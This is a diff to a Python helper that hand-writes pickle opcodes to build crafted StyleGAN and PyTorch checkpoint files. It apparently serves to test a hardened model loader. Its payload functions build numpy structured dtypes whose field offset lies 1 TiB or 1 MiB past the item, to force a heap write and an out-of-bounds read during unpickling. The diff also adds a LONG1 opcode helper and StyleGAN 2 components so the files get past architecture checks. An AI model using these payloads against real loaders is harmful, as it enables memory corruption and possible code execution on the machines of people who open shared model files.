@@ -51,6 +51,11 @@ def i(value: int) -> bytes:  # BININT (signed 32 bit)
     return b"J" + struct.pack("<i", value)
 
 
+def long(value: int) -> bytes:  # LONG1
+    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
+    return b"\x8a" + bytes([len(raw)]) + raw
+
+
 def g(module: str, name: str) -> bytes:  # GLOBAL
     return b"c" + f"{module}\n{name}\n".encode()
 
@@ -109,19 +114,22 @@ def tensor(storage_ops: bytes, offset: int, size: tuple, stride: tuple) -> bytes
 # -- the two wrappers: a TF1 (G, D, Gs) tuple and a PyTorch snapshot dict ----------------------
 
 def tf1_network(static_kwargs: bytes = EMPTY_DICT, variables: bytes = EMPTY_LIST,
-                components: bytes = EMPTY_DICT, name: str = "Gs") -> bytes:
+                components: bytes = EMPTY_DICT, name: str = "Gs", build: str = "G_main") -> bytes:
     state = dct([(s("version"), i(4)), (s("name"), s(name)), (s("static_kwargs"), static_kwargs),
                  (s("components"), components), (s("build_module_src"), s("")),
-                 (s("build_func_name"), s("G_main")), (s("variables"), variables)])
+                 (s("build_func_name"), s(build)), (s("variables"), variables)])
     return g("dnnlib.tflib.network", "Network") + EMPTY_TUPLE + NEWOBJ + state + BUILD
 
 
 def tf1_file(payload: bytes, where: str = "variables") -> bytes:
-    """(G, D, Gs) with `payload` as a variable's value (or a static_kwargs value) of Gs."""
+    """(G, D, Gs) with `payload` as a variable's value (or a static_kwargs value) of a StyleGAN 2 Gs
+    (components synthesis and mapping, so that the file reaches the architecture's option checks)."""
+    components = dct([(s("synthesis"), tf1_network(name="G_synthesis", build="G_synthesis_stylegan2")),
+                      (s("mapping"), tf1_network(name="G_mapping", build="G_mapping"))])
     if where == "variables":
-        gs = tf1_network(variables=lst([tup(s("w"), payload)]))
+        gs = tf1_network(variables=lst([tup(s("w"), payload)]), components=components)
     else:
-        gs = tf1_network(static_kwargs=dct([(s("x"), payload)]))
+        gs = tf1_network(static_kwargs=dct([(s("x"), payload)]), components=components)
     return PROTO3 + tf1_network(name="G") + tf1_network(name="D") + gs + TUPLE3 + STOP
 
 
@@ -140,17 +148,23 @@ def torch_file(payload: bytes) -> bytes:
 
 # -- the payloads -----------------------------------------------------------------------------
 
+FAR = 1 << 40  # a field offset far past any mapped memory
+
+
 def structured_heap_write() -> bytes:
-    """A void dtype whose one field lies 1 MB past its 16-byte item, then an array of it filled by
-    BUILD: numpy's setstate copies the field's 8 bytes to that offset (a heap write)."""
+    """A void dtype whose one float64 field lies 1 TiB past its 16-byte item, with the object flags
+    set by BUILD (after numpy.dtype was called, so a check at the call sees none), then an array
+    of it filled by BUILD from a list: numpy sets the field item by item, 8 chosen bytes at that
+    offset from a heap buffer (a heap write)."""
     f8 = dtype("f8")
-    fields = dct([(s("a"), tup(f8, i(1 << 20)))])
-    return array((1,), dtype("V16", "|", fields=fields, names=tup(s("a")), elsize=16, align=1, flags=16),
-                 by(b"A" * 16))
+    fields = dct([(s("a"), tup(f8, long(FAR)))])
+    return array((1,), dtype("V16", "|", fields=fields, names=tup(s("a")), elsize=16, align=1, flags=63),
+                 lst([tup(b"G" + struct.pack(">d", 1.5))]))
 
 
 def structured_scalar_read() -> bytes:
-    """numpy.core.multiarray.scalar of the same far-field dtype: .item() reads 1 MB past the item."""
+    """numpy.core.multiarray.scalar of a void dtype whose field lies 1 MiB past its 16-byte item:
+    .item() (which the old loader's plain copy calls) reads there."""
     f8 = dtype("f8")
     fields = dct([(s("a"), tup(f8, i(1 << 20)))])
     return (g("numpy.core.multiarray", "scalar")
